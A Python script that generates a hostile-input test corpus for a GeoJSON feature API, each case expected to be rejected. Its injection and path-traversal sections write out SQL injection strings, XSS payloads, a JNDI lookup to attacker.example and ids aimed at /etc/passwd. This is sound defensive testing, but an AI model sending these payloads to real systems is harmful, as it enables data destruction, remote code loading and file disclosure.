# Writes the hostile-input corpus (one small file per case) and its manifest cases.tsv.
# Usage: python3 scripts/make-hostile-corpus.py src/test/resources/hostile   (it empties that folder first)
# The files are checked in; this script is how they were made, and how to change them.
import json, os, sys
OUT = sys.argv[1]
os.makedirs(OUT, exist_ok=True)
for f in os.listdir(OUT):
    os.remove(os.path.join(OUT, f))

def d(o):
    return json.dumps(o, ensure_ascii=False, separators=(',', ':'))

RING = [[119.50, 39.90], [119.52, 39.90], [119.52, 39.92], [119.50, 39.92], [119.50, 39.90]]
HOLE = [[119.505, 39.905], [119.505, 39.915], [119.515, 39.915], [119.515, 39.905], [119.505, 39.905]]
POLY = {"type": "Polygon", "coordinates": [RING]}
BANP = {"name": "测试禁燃区", "class": "III"}

def feat(props, geom, **extra):
    f = {"type": "Feature"}
    f.update(extra)
    if props is not ...:
        f["properties"] = props
    if geom is not ...:
        f["geometry"] = geom
    return f

def ban(geom=POLY, props=None, **extra):
    return feat(dict(BANP) if props is None else props, geom, **extra)

def poly(*rings):
    return {"type": "Polygon", "coordinates": list(rings)}

# the heat-source layer names a plant in "name" (SampleData maps the CSV column name_zh to it)
HEATP = {"name": "测试热电厂", "largest_unit_mw": 300, "total_capacity_mw": 600, "chp": "yes", "status": "operating"}
POINT = {"type": "Point", "coordinates": [119.6, 39.95]}
def heat(geom=POINT, props=None, **extra):
    return feat(dict(HEATP) if props is None else props, geom, **extra)

BAN_TEXT = d(ban())
HEAT_TEXT = d(heat())

BZ = "/ogc/collections/ban-zones/items"
HS = "/ogc/collections/heat-sources/items"
BZI = BZ + "/sample-ban-haigang-iii"
BZD = BZ + "/sample-ban-hongshan-iii"  # DELETE cases aim here, so a wrongly accepted DELETE does not take the PUT cases' target away
HSI = HS + "/qinhuangdao-power-u1-4"
GJ = "application/geo+json"
CUR = '{etag}'

rows = []
names = set()

def case(name, klass, body, expect, method="POST", path=BZ, ctype=GJ, auth="admin", if_match="-",
         transport="client", note="-", ext="json"):
    assert name not in names, name
    names.add(name)
    if body is None:
        bodycol = "-"
    elif isinstance(body, str) and body.startswith("gen:"):
        bodycol = body
    else:
        fname = f"{name}.{ext}"
        data = body.encode("utf-8") if isinstance(body, str) else body
        assert len(data) < 16384, name
        with open(os.path.join(OUT, fname), "wb") as fh:
            fh.write(data)
        bodycol = fname
    for col in (name, klass, method, path, bodycol, ctype, auth, if_match, transport, expect, note):
        assert "\t" not in col and "\n" not in col, (name, col)
    rows.append((name, klass, method, path, bodycol, ctype, auth, if_match, transport, expect, note))

# ---------------------------------------------------------------- malformed JSON
K = "malformed-json"
case("truncated-mid-object", K, BAN_TEXT[: len(BAN_TEXT) * 3 // 5], "400")
case("truncated-mid-string", K, '{"type":"Feature","properties":{"name":"测试', "400")
case("truncated-mid-number", K, BAN_TEXT[: BAN_TEXT.index("119.52") + 4], "400")
case("truncated-after-key", K, '{"type"', "400")
case("only-open-brace", K, "{", "400")
case("empty-body", K, b"", "400", note="zero bytes")
case("whitespace-only", K, " \r\n\t  \n", "400")
case("trailing-garbage", K, BAN_TEXT + "xyz", "400", note="a valid Feature followed by garbage")
case("trailing-second-object", K, BAN_TEXT + BAN_TEXT, "400", note="two Features concatenated")
case("trailing-closing-brace", K, BAN_TEXT + "}", "400")
case("trailing-comma-object", K, BAN_TEXT.replace('"class":"III"', '"class":"III",'), "400")
case("trailing-comma-array", K, BAN_TEXT.replace("[119.5,39.9]]]", "[119.5,39.9],]]"), "400")
case("single-quotes", K, BAN_TEXT.replace('"', "'"), "400")
case("unquoted-keys", K, '{type:"Feature",properties:{name:"测试禁燃区",class:"III"},geometry:' + d(POLY) + "}", "400")
case("line-comment", K, BAN_TEXT.replace('"properties"', '// a comment\n"properties"'), "400")
case("block-comment", K, BAN_TEXT.replace('"properties"', '/* a comment */"properties"'), "400")
case("bom-in-the-middle", K, BAN_TEXT.replace(',"geometry"', ",\ufeff\"geometry\""), "400", note="U+FEFF between tokens")
case("raw-newline-in-string", K, BAN_TEXT.replace("测试禁燃区", "测试\n禁燃区"), "400")
case("raw-control-char-in-string", K, BAN_TEXT.replace("测试禁燃区", "测试\x01禁燃区"), "400")
case("invalid-escape", K, BAN_TEXT.replace("测试禁燃区", "\\x41"), "400")
case("bad-unicode-escape", K, BAN_TEXT.replace("测试禁燃区", "\\u12G4"), "400")
case("unterminated-string", K, BAN_TEXT.replace('"III"}', '"III}'), "400")
case("missing-colon", K, BAN_TEXT.replace('"type":"Feature"', '"type" "Feature"'), "400")
case("missing-comma", K, BAN_TEXT.replace('"name":"测试禁燃区","class"', '"name":"测试禁燃区" "class"'), "400")
case("unbalanced-brackets", K, BAN_TEXT.replace("]]]", "]]"), "400")
case("leading-zero-number", K, BAN_TEXT.replace("[119.5,39.9]", "[0119.5,039.9]"), "400")
case("plus-sign-number", K, BAN_TEXT.replace("[119.5,39.9]", "[+119.5,+39.9]"), "400")
case("hex-number", K, BAN_TEXT.replace("[119.5,39.9]", "[0x77,0x27]"), "400")
case("leading-dot-number", K, BAN_TEXT.replace("[119.52,39.9]", "[119.52,.9]"), "400")
case("trailing-dot-number", K, BAN_TEXT.replace("[119.52,39.9]", "[119.,39.9]"), "400")
case("python-literals", K, '{"type":"Feature","properties":{"name":"x","class":"III","ok":True,"n":None},"geometry":' + d(POLY) + "}", "400")
case("undefined-literal", K, BAN_TEXT.replace('"class":"III"', '"class":"III","x":undefined'), "400")
case("nul-byte-between-tokens", K, BAN_TEXT.replace(',"geometry"', ',\x00"geometry"'), "400")
case("js-expression", K, BAN_TEXT.replace('"class":"III"', '"class":"III","d":new Date()'), "400")
case("xml-body", K, '<?xml version="1.0"?><Feature><name>x</name></Feature>', "400", note="XML declared as GeoJSON")

# ---------------------------------------------------------------- wrong GeoJSON types
K = "wrong-geojson-type"
case("featurecollection-instead-of-feature", K, d({"type": "FeatureCollection", "features": [ban()]}), "400")
case("bare-polygon-geometry", K, d(POLY), "400")
case("geometrycollection-geometry", K, d(ban({"type": "GeometryCollection", "geometries": [POLY]})), "400")
case("type-lowercase-feature", K, BAN_TEXT.replace('"Feature"', '"feature"'), "400")
case("type-is-number", K, BAN_TEXT.replace('"type":"Feature"', '"type":1'), "400")
case("type-missing", K, BAN_TEXT.replace('"type":"Feature",', ""), "400")
case("type-null", K, BAN_TEXT.replace('"type":"Feature"', '"type":null'), "400")
case("type-array", K, BAN_TEXT.replace('"type":"Feature"', '"type":["Feature"]'), "400")
case("top-level-array", K, "[" + BAN_TEXT + "]", "400")
case("top-level-string", K, '"Feature"', "400")
case("top-level-number", K, "42", "400")
case("top-level-null", K, "null", "400")
case("top-level-true", K, "true", "400")
case("empty-object", K, "{}", "400")
case("point-in-ban-zones", K, d(ban(POINT)), "400")
case("linestring-in-ban-zones", K, d(ban({"type": "LineString", "coordinates": RING})), "400")
case("multilinestring-in-industrial-parks", K, d(feat({"name": "测试园区"}, {"type": "MultiLineString", "coordinates": [RING]})), "400", path="/ogc/collections/industrial-parks/items")
case("point-in-control-zones", K, d(feat({"name": "测试管控区", "zone_type": "fireworks_ban"}, POINT)), "400", path="/ogc/collections/control-zones/items")
case("polygon-in-heat-sources", K, d(heat(POLY)), "400", path=HS)
case("multipoint-in-heat-sources", K, d(heat({"type": "MultiPoint", "coordinates": [[119.6, 39.95]]})), "400", path=HS)
case("unknown-geometry-type-circle", K, d(ban({"type": "Circle", "coordinates": [119.5, 39.9], "radius": 1000})), "400")
case("geometry-type-lowercase", K, d(ban({"type": "polygon", "coordinates": [RING]})), "400")
case("geometry-type-missing", K, d(ban({"coordinates": [RING]})), "400")
case("coordinates-as-strings", K, d(ban(poly([[str(x), str(y)] for x, y in RING]))), "400")
case("coordinates-as-objects", K, d(ban(poly([{"lon": x, "lat": y} for x, y in RING]))), "400")
case("coordinates-as-one-string", K, d(ban({"type": "Polygon", "coordinates": "119.5 39.9, 119.52 39.9, 119.52 39.92, 119.5 39.92, 119.5 39.9"})), "400")
case("coordinates-as-booleans", K, d(heat({"type": "Point", "coordinates": [True, False]})), "400", path=HS)
case("coordinates-missing", K, d(ban({"type": "Polygon"})), "400")
case("position-one-number", K, d(ban(poly([[119.5, 39.9], [119.52], [119.52, 39.92], [119.5, 39.92], [119.5, 39.9]]))), "400")
case("position-empty-array", K, d(ban(poly([[119.5, 39.9], [], [119.52, 39.92], [119.5, 39.92], [119.5, 39.9]]))), "400")
case("point-nested-too-deep", K, d(heat({"type": "Point", "coordinates": [[119.6, 39.95]]})), "400", path=HS)
case("multipolygon-with-polygon-depth", K, d(ban({"type": "MultiPolygon", "coordinates": [RING]})), "400")
case("polygon-with-multipolygon-depth", K, d(ban({"type": "Polygon", "coordinates": [[RING]]})), "400")
case("properties-is-array", K, d(ban(props=["name", "测试禁燃区", "class", "III"])), "400")
case("properties-is-string", K, d(ban(props="name=测试禁燃区;class=III")), "400")
case("geometry-as-wkt-string", K, d(ban("POLYGON((119.5 39.9,119.52 39.9,119.52 39.92,119.5 39.92,119.5 39.9))")), "400")
case("geometry-as-array", K, d(ban([POLY])), "400")
case("put-featurecollection", K, d({"type": "FeatureCollection", "features": [ban()]}), "400", method="PUT", path=BZI, if_match=CUR)

# ---------------------------------------------------------------- NaN / Infinity / 1e308 / -0
K = "non-finite-number"
case("nan-literal-lon", K, BAN_TEXT.replace("[119.52,39.9]", "[NaN,39.9]"), "400")
case("nan-literal-lat", K, BAN_TEXT.replace("[119.52,39.92]", "[119.52,NaN]"), "400")
case("infinity-literal", K, BAN_TEXT.replace("[119.52,39.9]", "[Infinity,39.9]"), "400")
case("minus-infinity-literal", K, BAN_TEXT.replace("[119.52,39.9]", "[-Infinity,39.9]"), "400")
case("nan-as-string", K, HEAT_TEXT.replace("[119.6,39.95]", '["NaN","NaN"]'), "400", path=HS)
case("e308-lon", K, HEAT_TEXT.replace("[119.6,39.95]", "[1e308,39.95]"), "400", path=HS)
case("minus-e308-lat", K, BAN_TEXT.replace("[119.52,39.92]", "[119.52,-1e308]"), "400")
case("e309-overflows-to-infinity", K, HEAT_TEXT.replace("[119.6,39.95]", "[1e309,39.95]"), "400", path=HS)
case("minus-e309-overflows", K, BAN_TEXT.replace("[119.52,39.9]", "[-1e309,39.9]"), "400")
case("uppercase-E400", K, BAN_TEXT.replace("[119.52,39.92]", "[119.52,1E400]"), "400")
case("huge-integer", K, HEAT_TEXT.replace("[119.6,39.95]", "[1" + "0" * 40 + ",39.95]"), "400", path=HS)
case("number-2000-digits", K, HEAT_TEXT.replace("[119.6,39.95]", "[119." + "0" * 2000 + "1,39.95]"), "400", path=HS)
case("negative-zero-degenerate-ring", K, d(ban(poly([[-0.0, -0.0]] * 5))).replace("-0.0", "-0"), "400", note="every vertex [-0,-0]: zero area")
case("negative-zero-as-class", K, BAN_TEXT.replace('"class":"III"', '"class":-0'), "400")
case("negative-zero-lon-lat-out-of-range", K, HEAT_TEXT.replace("[119.6,39.95]", "[-0,-90.5]"), "400", path=HS)
case("nan-in-number-property", K, HEAT_TEXT.replace('"largest_unit_mw":300', '"largest_unit_mw":NaN'), "400", path=HS)
case("overflow-in-number-property", K, HEAT_TEXT.replace('"total_capacity_mw":600', '"total_capacity_mw":1e309'), "400", path=HS, note="1e309 parses to Infinity")
case("put-nan", K, BAN_TEXT.replace("[119.52,39.9]", "[NaN,39.9]"), "400", method="PUT", path=BZI, if_match=CUR)

# ---------------------------------------------------------------- out-of-range lon/lat
K = "out-of-range"
case("lon-above-180", K, HEAT_TEXT.replace("[119.6,39.95]", "[180.0000001,39.95]"), "400", path=HS)
case("lon-below-minus-180", K, HEAT_TEXT.replace("[119.6,39.95]", "[-180.5,39.95]"), "400", path=HS)
case("lat-above-90", K, HEAT_TEXT.replace("[119.6,39.95]", "[119.6,90.0000001]"), "400", path=HS)
case("lat-below-minus-90", K, HEAT_TEXT.replace("[119.6,39.95]", "[119.6,-91]"), "400", path=HS)
case("lon-360-convention", K, d(ban(poly([[x + 240, y] for x, y in RING]))), "400", note="0..360 longitudes")
case("lat-lon-swapped", K, d(ban(poly([[y, x] for x, y in RING]))), "400", note="lat 119.5 is out of range")
case("one-vertex-out-of-range", K, d(ban(poly([[119.5, 39.9], [119.52, 39.9], [119.52, 95.0], [119.5, 39.92], [119.5, 39.9]]))), "400")
case("hole-out-of-range", K, d(ban(poly(RING, [[119.505, 39.905], [119.505, 39.915], [219.515, 39.915], [119.515, 39.905], [119.505, 39.905]]))), "400")
case("multipolygon-part-out-of-range", K, d(ban({"type": "MultiPolygon", "coordinates": [[RING], [[[x, y - 200] for x, y in RING]]]})), "400")
case("web-mercator-metres", K, d(ban(poly([[13302000.0, 4851000.0], [13304000.0, 4851000.0], [13304000.0, 4853000.0], [13302000.0, 4853000.0], [13302000.0, 4851000.0]]))), "400", note="EPSG:3857 metres sent as lon/lat")
case("put-lat-out-of-range", K, HEAT_TEXT.replace("[119.6,39.95]", "[119.6,1000]"), "400", method="PUT", path=HSI, if_match=CUR)

# ---------------------------------------------------------------- empty rings / coordinates / null geometry
K = "empty-geometry"
case("polygon-empty-coordinates", K, d(ban(poly())), "400")
case("polygon-empty-ring", K, d(ban(poly([]))), "400")
case("multipolygon-empty", K, d(ban({"type": "MultiPolygon", "coordinates": []})), "400")
case("multipolygon-empty-part", K, d(ban({"type": "MultiPolygon", "coordinates": [[[]]]})), "400")
case("null-geometry", K, d(ban(None)), "400")
case("geometry-empty-object", K, d(ban({})), "400")
case("geometry-missing", K, d(ban(...)), "400")
case("point-empty-coordinates", K, d(heat({"type": "Point", "coordinates": []})), "400", path=HS)
case("point-null-coordinates", K, d(heat({"type": "Point", "coordinates": None})), "400", path=HS)
case("polygon-null-coordinates", K, d(ban({"type": "Polygon", "coordinates": None})), "400")
case("empty-shell-with-hole", K, d(ban(poly([], HOLE))), "400")
case("zero-area-repeated-point", K, d(ban(poly([[119.5, 39.9]] * 5))), "400")
case("zero-area-collinear", K, d(ban(poly([[119.5, 39.9], [119.51, 39.91], [119.52, 39.92], [119.5, 39.9]]))), "400")
case("put-null-geometry", K, d(ban(None)), "400", method="PUT", path=BZI, if_match=CUR)

# ---------------------------------------------------------------- self-intersections whose repair changes the area by > 1 %
K = "bow-tie"
case("bowtie-symmetric", K, d(ban(poly([[119.5, 39.9], [119.6, 40.0], [119.6, 39.9], [119.5, 40.0], [119.5, 39.9]]))), "400", note="signed lobes cancel: area 0 before repair")
case("bowtie-asymmetric", K, d(ban(poly([[119.5, 39.9], [119.7, 40.1], [119.7, 39.9], [119.5, 40.0], [119.5, 39.9]]))), "400", note="lobes of unequal size")
case("ring-wound-twice", K, d(ban(poly([[119.5, 39.9], [119.6, 39.9], [119.6, 40.0], [119.5, 40.0], [119.5, 39.9], [119.6, 39.9], [119.6, 40.0], [119.5, 40.0], [119.5, 39.9]]))), "400", note="area counted twice before repair")
case("pentagram", K, d(ban(poly([[119.60, 40.00], [119.5412, 39.8191], [119.6951, 39.9309], [119.5049, 39.9309], [119.6588, 39.8191], [119.60, 40.00]]))), "400", note="five-pointed star drawn as one self-crossing ring")
case("multipolygon-duplicate-parts", K, d(ban({"type": "MultiPolygon", "coordinates": [[RING], [RING]]})), "400", note="same polygon twice: union halves the area")
case("multipolygon-overlapping-parts", K, d(ban({"type": "MultiPolygon", "coordinates": [[RING], [[[x + 0.01, y] for x, y in RING]]]})), "400")
case("hole-equals-shell", K, d(ban(poly(RING, list(reversed(RING))))), "400")
case("hole-larger-than-shell", K, d(ban(poly(HOLE, RING))), "400")
case("hole-crossing-shell", K, d(ban(poly(RING, [[119.51, 39.905], [119.53, 39.905], [119.53, 39.915], [119.51, 39.915], [119.51, 39.905]]))), "400", note="half of the hole lies outside the shell")
case("put-bowtie", K, d(ban(poly([[119.5, 39.9], [119.6, 40.0], [119.6, 39.9], [119.5, 40.0], [119.5, 39.9]]))), "400", method="PUT", path=BZI, if_match=CUR)

# ---------------------------------------------------------------- unclosed rings and rings with < 4 positions
K = "ring-structure"
case("unclosed-square", K, d(ban(poly(RING[:4]))), "400")
case("unclosed-triangle", K, d(ban(poly(RING[:3]))), "400")
case("nearly-closed-1e-9", K, d(ban(poly(RING[:4] + [[119.500000001, 39.90]]))), "400", note="last position differs from the first by 1e-9")
case("unclosed-hole", K, d(ban(poly(RING, HOLE[:4]))), "400")
case("unclosed-second-part", K, d(ban({"type": "MultiPolygon", "coordinates": [[RING], [[[x + 0.1, y] for x, y in RING[:4]]]]})), "400")
case("ring-three-positions-closed", K, d(ban(poly([[119.5, 39.9], [119.52, 39.9], [119.5, 39.9]]))), "400")
case("ring-two-positions", K, d(ban(poly([[119.5, 39.9], [119.52, 39.9]]))), "400")
case("ring-one-position", K, d(ban(poly([[119.5, 39.9]]))), "400")
case("hole-three-positions", K, d(ban(poly(RING, [[119.505, 39.905], [119.51, 39.91], [119.505, 39.905]]))), "400")
case("put-unclosed-ring", K, d(ban(poly(RING[:4]))), "400", method="PUT", path=BZI, if_match=CUR)

# ---------------------------------------------------------------- huge bodies (generated at test time)
K = "huge-body"
case("over-20mb-whitespace", K, "gen:whitespace-padded-21mb", "413", transport="raw", note="generated: a valid Feature followed by 21 MiB of spaces, Content-Length")
case("over-20mb-whitespace-chunked", K, "gen:whitespace-padded-21mb", "413", transport="chunked", note="generated: same, chunked transfer coding, no Content-Length")
case("ten-million-vertices", K, "gen:ten-million-vertices", "413|400", transport="raw", note="generated: one ring of 10,000,000 vertices (about 250 MB), Content-Length")
case("ten-million-vertices-chunked", K, "gen:ten-million-vertices", "413|400", transport="chunked", note="generated: same, chunked")
case("vertices-150k-under-20mb", K, "gen:vertices-150k", "413|400", note="generated: 150,000-vertex ring, about 3.8 MB")
case("multipolygon-30k-squares", K, "gen:squares-30k", "413|400", note="generated: 30,000 parts of 5 positions = 150,000 vertices")
case("declared-length-10gb", K, "gen:valid-ban-zone", "413", transport="declared-length=10000000000", note="generated: Content-Length 10 GB, small body")
case("put-over-20mb", K, "gen:whitespace-padded-21mb", "413", method="PUT", path=BZI, if_match=CUR, transport="raw", note="generated")

# ---------------------------------------------------------------- deep nesting (generated at test time)
K = "deep-nesting"
case("coordinates-100k-levels", K, "gen:nested-coordinates-100000", "400", note="generated: coordinates nested 100,000 arrays deep")
case("coordinates-1000-levels", K, "gen:nested-coordinates-1000", "400", note="generated")
case("properties-100k-objects", K, "gen:nested-property-objects-100000", "400", note="generated: a property nested 100,000 objects deep")
case("foreign-member-100k-arrays", K, "gen:nested-foreign-member-100000", "400", note="generated: an extra top-level member nested 100,000 arrays deep")
case("unclosed-100k-arrays", K, "gen:unclosed-arrays-100000", "400", note="generated: 100,000 '[' and nothing else")
case("mixed-100k-levels", K, "gen:nested-mixed-100000", "400", note="generated: alternating arrays and objects")
case("foreign-member-600-arrays", K, "gen:nested-foreign-member-600", "400", note="generated: deeper than a few hundred")

# ---------------------------------------------------------------- SQL / script injection
K = "injection"
case("id-sql-drop-table", K, d(ban(id="x'; DROP TABLE features; --")), "400")
case("id-sql-or-true", K, d(ban(id="1' OR '1'='1")), "400")
case("id-sql-pg-sleep", K, d(ban(id="a'||pg_sleep(10)||'")), "400")
case("id-sql-semicolon", K, d(ban(id="a;DELETE FROM features")), "400")
case("id-h2-create-alias", K, d(ban(id="x');CREATE ALIAS EXEC AS 'String e(String c){return c;}';--")), "400")
case("id-script-tag", K, d(ban(id="<script>alert(1)</script>")), "400")
case("id-jndi-lookup", K, d(ban(id="${jndi:ldap://attacker.example/a}")), "400")
case("id-nosql-operator-object", K, d(ban(id={"$ne": None})), "400")
case("path-id-sql-drop-put", K, BAN_TEXT, "400|404", method="PUT", path=BZ + "/x'%3B%20DROP%20TABLE%20features%3B%20--", if_match='"v1"')
case("path-id-sql-or-delete", K, None, "400|404", method="DELETE", path=BZ + "/1'%20OR%20'1'%3D'1", ctype="-", if_match='"v1"')
case("path-id-script-delete", K, None, "400|404", method="DELETE", path=BZ + "/%3Cscript%3Ealert(1)%3C", ctype="-", if_match='"v1"')
case("path-collection-sql", K, BAN_TEXT, "404", path="/ogc/collections/ban-zones'%20OR%20'1'%3D'1/items")
case("class-sql-drop-table", K, d(ban(props={"name": "测试禁燃区", "class": "III'; DROP TABLE features; --"})), "400")
case("name-sql-missing-class", K, d(ban(props={"name": "'; DROP TABLE features; --"})), "400", note="name is plain text; the missing class makes it invalid")
case("class-script-tag", K, d(ban(props={"name": "测试禁燃区", "class": "<script>alert(1)</script>"})), "400")
case("name-script-missing-class", K, d(ban(props={"name": "<script>alert(document.cookie)</script>"})), "400")
case("name-img-onerror-class-iv", K, d(ban(props={"name": "<img src=x onerror=alert(1)>", "class": "IV"})), "400")
case("capacity-sql-string", K, d(heat(props=dict(HEATP, largest_unit_mw="300; DROP TABLE features"))), "400", path=HS)
case("property-key-sql-missing-class", K, d(ban(props={"name": "测试禁燃区", "class'; DROP TABLE features; --": "III"})), "400")
case("nosql-operator-property", K, d(feat({"name": "'; DELETE FROM features; --", "filter": {"$where": "1==1"}}, POLY)), "400", path="/ogc/collections/industrial-parks/items", note="nested object makes it invalid")
case("geometry-type-sql", K, d(ban({"type": "Polygon'; DROP TABLE features; --", "coordinates": [RING]})), "400")
case("class-sql-put", K, d(ban(props={"name": "测试禁燃区", "class": "I' OR '1'='1"})), "400", method="PUT", path=BZI, if_match=CUR)

# ---------------------------------------------------------------- path traversal in ids
K = "path-traversal"
case("id-dotdot-etc-passwd", K, d(ban(id="../../etc/passwd")), "400")
case("id-backslashes", K, d(ban(id="..\\..\\windows\\win.ini")), "400")
case("id-url-encoded-dotdot", K, d(ban(id="%2e%2e%2f%2e%2e%2fetc%2fpasswd")), "400")
case("id-double-encoded", K, d(ban(id="%252e%252e%252fetc")), "400")
case("id-absolute-path", K, d(ban(id="/etc/passwd")), "400")
case("id-single-dot", K, d(ban(id=".")), "400")
case("id-double-dot", K, d(ban(id="..")), "400")
case("id-nul-byte", K, d(ban(id="a\u0000b")).replace("\\u0000", "\\u0000"), "400")
case("id-empty", K, d(ban(id="")), "400")
case("id-129-chars", K, d(ban(id="a" * 129)), "400")
case("id-trailing-newline", K, d(ban(id="abc\n")), "400")
case("id-fullwidth-dots", K, d(ban(id="．．／etc／passwd")), "400")
case("id-with-space", K, d(ban(id="a b")), "400")
case("path-encoded-slashes-put", K, BAN_TEXT, "400|404", method="PUT", path=BZ + "/..%2F..%2Fetc%2Fpasswd", if_match='"v1"')
case("path-encoded-dots-put", K, BAN_TEXT, "400|404", method="PUT", path=BZ + "/%2e%2e%2f%2e%2e%2fetc%2fpasswd", if_match='"v1"')
case("path-encoded-dotdot-segment", K, None, "400|404|405", method="DELETE", path=BZ + "/%2e%2e", ctype="-", if_match='"v1"')
case("path-encoded-backslashes-delete", K, None, "400|404", method="DELETE", path=BZ + "/..%5C..%5Cwindows%5Cwin.ini", ctype="-", if_match='"v1"')
case("path-raw-backslashes-delete", K, None, "400|404", method="DELETE", path=BZ + "/..\\..\\windows\\win.ini", ctype="-", if_match='"v1"', transport="raw", note="literal backslashes on the wire")
case("path-raw-dotdot-put", K, BAN_TEXT, "400|404|405", method="PUT", path=BZ + "/../../../../etc/passwd", if_match='"v1"', transport="raw", note="literal ../ on the wire")
case("path-nul-byte-put", K, BAN_TEXT, "400|404", method="PUT", path=BZ + "/a%00b", if_match='"v1"')
case("path-id-129-chars-put", K, BAN_TEXT, "400|404", method="PUT", path=BZ + "/" + "a" * 129, if_match='"v1"')
case("path-collection-traversal", K, BAN_TEXT, "400|404", path="/ogc/collections/..%2F..%2Fetc/items")

# ---------------------------------------------------------------- non-UTF-8 bytes
K = "non-utf8"
gbk = BAN_TEXT.encode("gbk")
case("gbk-body-declared-utf8", K, gbk, "400", ctype=GJ + "; charset=utf-8", note="name in GBK")
case("gbk-body-no-charset", K, gbk, "400")
case("gbk-property-key", K, BAN_TEXT.replace('"class":"III"', '"class":"III","备注":"x"').encode("gbk"), "400")
case("latin1-byte", K, BAN_TEXT.encode("utf-8").replace("测试禁燃区".encode(), b"Caf\xe9"), "400")
case("lone-high-surrogate-bytes", K, BAN_TEXT.encode().replace("测试禁燃区".encode(), b"a\xed\xa0\x80b"), "400", note="CESU/UTF-8 encoding of U+D800")
case("lone-low-surrogate-bytes", K, BAN_TEXT.encode().replace("测试禁燃区".encode(), b"a\xed\xb0\x80b"), "400")
case("escaped-lone-surrogate", K, BAN_TEXT.replace("测试禁燃区", "a\\ud800b"), "400", note="valid JSON syntax but not a Unicode string")
case("overlong-slash", K, BAN_TEXT.encode().replace("测试禁燃区".encode(), b"..\xc0\xaf..\xc0\xafetc"), "400")
case("overlong-nul", K, BAN_TEXT.encode().replace("测试禁燃区".encode(), b"a\xc0\x80b"), "400")
case("overlong-three-byte", K, BAN_TEXT.encode().replace("测试禁燃区".encode(), b"a\xe0\x80\xafb"), "400")
case("truncated-multibyte", K, BAN_TEXT.encode().replace("测试禁燃区".encode(), b"\xe6\xb5"), "400")
case("ff-fe-bytes", K, BAN_TEXT.encode().replace(b',"geometry"', b',\xff\xfe"geometry"'), "400")
case("five-byte-sequence", K, BAN_TEXT.encode().replace("测试禁燃区".encode(), b"a\xf8\x88\x80\x80\x80b"), "400")
case("above-u10ffff", K, BAN_TEXT.encode().replace("测试禁燃区".encode(), b"a\xf4\x90\x80\x80b"), "400")
case("utf16le-with-bom", K, b"\xff\xfe" + BAN_TEXT.encode("utf-16-le"), "400")
case("utf16be-no-bom", K, BAN_TEXT.encode("utf-16-be"), "400")
case("put-gbk-body", K, gbk, "400", method="PUT", path=BZI, if_match=CUR)

# ---------------------------------------------------------------- duplicate keys
K = "duplicate-keys"
case("type-twice-feature-then-collection", K, BAN_TEXT.replace('"type":"Feature",', '"type":"Feature","type":"FeatureCollection",', 1), "400")
case("type-twice-same-value", K, BAN_TEXT.replace('"type":"Feature",', '"type":"Feature","type":"Feature",', 1), "400")
case("class-twice", K, BAN_TEXT.replace('"class":"III"', '"class":"I","class":"III"'), "400")
case("class-twice-escaped-spelling", K, BAN_TEXT.replace('"class":"III"', '"class":"I","\\u0063lass":"III"'), "400", note="\\u0063lass is class")
case("name-twice", K, BAN_TEXT.replace('"name":"测试禁燃区"', '"name":"甲","name":"乙"'), "400")
case("id-twice", K, BAN_TEXT.replace('"type":"Feature",', '"type":"Feature","id":"hostile-a","id":"hostile-b",'), "400")
case("geometry-twice", K, BAN_TEXT[:-1] + ',"geometry":' + d(POINT) + "}", "400")
case("properties-twice", K, BAN_TEXT[:-1] + ',"properties":{"name":"x","class":"I"}}', "400")
case("coordinates-twice", K, BAN_TEXT.replace('"coordinates":', '"coordinates":[],"coordinates":'), "400")
case("heat-capacity-twice", K, HEAT_TEXT.replace('"largest_unit_mw":300', '"largest_unit_mw":300,"largest_unit_mw":-1'), "400", path=HS)
case("put-class-twice", K, BAN_TEXT.replace('"class":"III"', '"class":"III","class":"I"'), "400", method="PUT", path=BZI, if_match=CUR)

# ---------------------------------------------------------------- wrong content type (body itself valid)
K = "content-type"
case("content-type-text-plain", K, BAN_TEXT, "415|400", ctype="text/plain")
case("content-type-text-html", K, BAN_TEXT, "415|400", ctype="text/html; charset=utf-8")
case("content-type-form-urlencoded", K, BAN_TEXT, "415|400", ctype="application/x-www-form-urlencoded")
mp = ("--hostile\r\nContent-Disposition: form-data; name=\"feature\"; filename=\"f.geojson\"\r\n"
      "Content-Type: application/geo+json\r\n\r\n" + BAN_TEXT + "\r\n--hostile--\r\n")
case("content-type-multipart", K, mp, "415|400", ctype="multipart/form-data; boundary=hostile", ext="multipart")
case("content-type-xml", K, BAN_TEXT, "415|400", ctype="application/xml")
case("content-type-octet-stream", K, BAN_TEXT, "415|400", ctype="application/octet-stream")
case("content-type-image-png", K, BAN_TEXT, "415|400", ctype="image/png")
case("content-type-missing", K, BAN_TEXT, "415|400", ctype="-", note="no Content-Type header at all")
case("put-content-type-text-plain", K, BAN_TEXT, "415|400", method="PUT", path=BZI, ctype="text/plain", if_match=CUR)

# ---------------------------------------------------------------- If-Match on PUT/DELETE (body valid)
K = "if-match"
case("put-missing-if-match", K, BAN_TEXT, "428", method="PUT", path=BZI)
case("put-stale-if-match", K, BAN_TEXT, "412", method="PUT", path=BZI, if_match='"v0"')
case("put-future-version", K, BAN_TEXT, "412", method="PUT", path=BZI, if_match='"v999999"')
case("put-weak-etag", K, BAN_TEXT, "412", method="PUT", path=BZI, if_match="W/{etag}", note="If-Match compares strongly")
case("put-unquoted-etag", K, BAN_TEXT, "412|400", method="PUT", path=BZI, if_match="v{version}", note="malformed entity-tag")
case("put-list-of-stale-etags", K, BAN_TEXT, "412", method="PUT", path=BZI, if_match='"v0", "v-1"')
case("put-empty-if-match", K, BAN_TEXT, "428|412|400", method="PUT", path=BZI, if_match="")
case("put-sql-in-if-match", K, BAN_TEXT, "412|400", method="PUT", path=BZI, if_match="\"v1'; DROP TABLE features; --\"")
case("put-heat-source-missing-if-match", K, HEAT_TEXT, "428", method="PUT", path=HSI)
case("put-nonexistent-feature", K, BAN_TEXT, "404|412", method="PUT", path=BZ + "/hostile-no-such-zone", if_match='"v1"')
case("put-body-id-differs-from-path", K, d(ban(id="sample-ban-taihe-ii")), "400|409", method="PUT", path=BZI, if_match=CUR, note="body id names another zone")
case("delete-missing-if-match", K, None, "428", method="DELETE", path=BZD, ctype="-")
case("delete-stale-if-match", K, None, "412", method="DELETE", path=BZD, ctype="-", if_match='"v0"')
case("delete-weak-etag", K, None, "412", method="DELETE", path=BZD, ctype="-", if_match="W/{etag}")
case("delete-nonexistent-feature", K, None, "404|412", method="DELETE", path=BZ + "/hostile-no-such-zone", ctype="-", if_match='"v1"')

# ---------------------------------------------------------------- unknown and read-only collections (body valid)
K = "collection"
case("unknown-collection", K, BAN_TEXT, "404", path="/ogc/collections/no-such-collection/items")
